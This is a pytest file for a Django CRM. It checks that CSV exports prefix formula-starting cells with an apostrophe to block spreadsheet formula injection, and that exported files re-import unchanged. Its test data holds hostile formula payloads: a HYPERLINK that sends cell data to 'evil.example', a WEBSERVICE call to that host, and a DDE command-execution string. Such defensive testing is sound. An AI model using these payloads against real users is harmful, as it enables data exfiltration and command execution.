"""Issue 9: no CSV the product writes hands a spreadsheet a formula (OWASP "CSV Injection"), and
an exported file imports again unchanged."""

import csv
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from crm import csv_io, services
from crm.models import Company, Contact
from tests.crm.factories import CompanyFactory, ContactFactory

FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    '=WEBSERVICE("https://evil.example/")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]


def export(client, kind: str) -> list[list[str]]:
    response = client.get(f"/{kind}/export.csv")
    text = b"".join(response.streaming_content).decode()
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize("value", FORMULAS)
def test_spreadsheet_safe_prefixes_formula_starts_and_round_trips(value):
    safe = csv_io.spreadsheet_safe(value)
    assert safe == "'" + value
    assert csv_io.from_spreadsheet_safe(safe) == value


@pytest.mark.parametrize("value", ["Ana", "", "O'Brien", "'quoted'", "a=b", "ana@x.example"])
def test_ordinary_cells_are_left_alone(value):
    assert csv_io.spreadsheet_safe(value) == value
    assert csv_io.from_spreadsheet_safe(value) == value


def test_an_apostrophe_before_a_formula_start_survives_the_round_trip():
    for value in ["'=1+1", "''+1", "'+5511987654321"]:
        assert csv_io.from_spreadsheet_safe(csv_io.spreadsheet_safe(value)) == value


def test_contact_export_neutralises_formulas(client, rep):
    ContactFactory(
        owner=rep,
        first_name=FORMULAS[0],
        last_name=FORMULAS[1],
        title="@SUM(1,2)",
        phone="+5511987654321",
    )
    client.force_login(rep)
    header, row = export(client, "contacts")
    cells = dict(zip(header, row, strict=True))
    assert cells["first_name"] == "'" + FORMULAS[0]
    assert cells["last_name"] == "'" + FORMULAS[1]
    assert cells["title"] == "'@SUM(1,2)"
    # E.164 starts with "+": OWASP's rule has no exception for it (a spreadsheet would also
    # compute the number and drop the "+"); the import takes the apostrophe off again.
    assert cells["phones"] == "'+5511987654321"
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)


def test_company_export_neutralises_formulas(client, rep):
    CompanyFactory(owner=rep, name=FORMULAS[1], industry="-1", address="\r=1", phone="+34612345678")
    client.force_login(rep)
    header, row = export(client, "companies")
    cells = dict(zip(header, row, strict=True))
    assert cells["name"] == "'" + FORMULAS[1]
    assert cells["industry"] == "'-1"
    assert cells["address"] == "'\r=1"
    assert cells["phone"] == "'+34612345678"


def test_an_exported_contact_file_imports_again_unchanged(client, rep, admin_user):
    company = CompanyFactory(owner=rep, name="=Acme")
    original = services.contact_create(
        actor=rep,
        first_name='=HYPERLINK("https://evil.example")',
        last_name="-Smith",
        title="'=kept apostrophe",
        company=company,
        emails=["ana@acme.example"],
        phones=["+5511987654321", "+14155552671"],
        tags=["vip"],
    )
    client.force_login(rep)
    text = b"".join(client.get("/contacts/export.csv").streaming_content)
    services.record_archive(actor=admin_user, record=original)  # archived: not a duplicate
    result = csv_io.import_csv(
        actor=rep,
        kind="contacts",
        upload=SimpleUploadedFile("export.csv", text, content_type="text/csv"),
        dry_run=False,
    )
    assert result.ok, result.errors
    copy = Contact.objects.exclude(pk=original.pk).get()
    assert copy.first_name == original.first_name
    assert copy.last_name == "-Smith"
    assert copy.title == "'=kept apostrophe"
    assert copy.company == company
    assert [p.number for p in copy.phones.order_by("-is_primary", "id")] == [
        "+5511987654321",
        "+14155552671",
    ]
    assert [e.email for e in copy.emails.all()] == ["ana@acme.example"]


def test_an_exported_company_file_imports_again_unchanged(client, rep):
    CompanyFactory(owner=rep, name="@Acme", industry="+Retail", phone="+34612345678")
    client.force_login(rep)
    text = b"".join(client.get("/companies/export.csv").streaming_content)
    text = text.replace(b"@Acme", b"@Acme two")  # the import refuses nothing here; keep apart
    result = csv_io.import_csv(
        actor=rep,
        kind="companies",
        upload=SimpleUploadedFile("export.csv", text, content_type="text/csv"),
        dry_run=False,
    )
    assert result.ok, result.errors
    copy = Company.objects.get(name="@Acme two")
    assert (copy.industry, copy.phone) == ("+Retail", "+34612345678")


def test_every_csv_writer_goes_through_spreadsheet_safe():
    """The one neutralising function is the only way the product writes CSV."""
    from pathlib import Path

    root = Path(__file__).resolve().parents[2]
    offenders = []
    for path in root.glob("*/**/*.py"):
        if {".venv", "var", "tests"} & set(path.parts):  # var/: make lock's pip-tools venv
            continue
        text = path.read_text(encoding="utf-8", errors="ignore")
        if "csv.writer(" in text or "csv.DictWriter(" in text:
            offenders.append(str(path.relative_to(root)))
    assert offenders == ["crm/csv_io.py"]
    source = (root / "crm" / "csv_io.py").read_text()
    assert source.count("csv.writer(") == 1  # inside SafeCsvWriter
